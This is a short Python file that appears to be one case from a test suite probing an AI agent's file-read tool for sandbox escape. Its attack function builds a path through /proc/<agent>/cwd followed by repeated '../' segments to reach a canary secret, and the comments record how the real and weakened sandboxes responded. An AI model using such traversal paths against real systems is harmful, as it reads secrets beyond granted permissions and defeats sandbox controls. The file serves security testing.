# title: go through the link that is the current directory of the agent
# reference: https://man7.org/linux/man-pages/man5/proc_pid_cwd.5.html, CWE-61
# real: error: Too many levels of symbolic links
# weakened: decided on the text
# proof: canary


def attack(worker):
    return worker.call("fs.read", f"/proc/{worker.agent}/cwd/../../../../../../../../.." + worker.secret)
